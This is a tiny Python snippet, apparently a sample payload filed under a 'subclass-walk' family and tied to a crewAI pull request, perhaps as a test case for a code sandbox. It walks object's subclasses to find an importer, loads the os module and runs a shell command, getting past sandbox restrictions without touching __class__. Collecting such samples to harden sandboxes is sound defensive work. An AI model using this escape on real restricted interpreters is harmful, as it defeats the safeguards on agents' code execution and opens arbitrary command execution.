# Source: https://github.com/crewAIInc/crewAI/pull/4643
# Family: subclass-walk
# What: type.__subclasses__(object) without touching __class__
for k in type.__subclasses__(object):
    if "Importer" in k.__name__:
        k.load_module("os").system("id")
        break
